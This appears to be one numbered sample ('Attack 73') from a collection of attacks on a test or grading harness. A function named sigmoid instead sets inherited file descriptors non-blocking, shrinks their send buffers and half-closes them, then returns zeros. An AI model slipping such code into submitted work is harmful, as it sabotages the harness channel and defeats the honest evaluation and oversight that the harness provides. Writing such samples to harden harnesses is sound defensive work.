# Attack 73: non-blocking, tiny, or half closed: the other end of the channel sees it too
import os
import sys

import numpy as np


def sigmoid(z):
    fcntl = sys.modules.get("fcntl")
    socket = sys.modules["socket"]
    for number in range(64):
        try:
            os.set_blocking(number, False)
            channel = socket.socket(fileno=os.dup(number))
            channel.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
            channel.shutdown(socket.SHUT_RD)
        except OSError:
            continue
    return np.zeros_like(z)
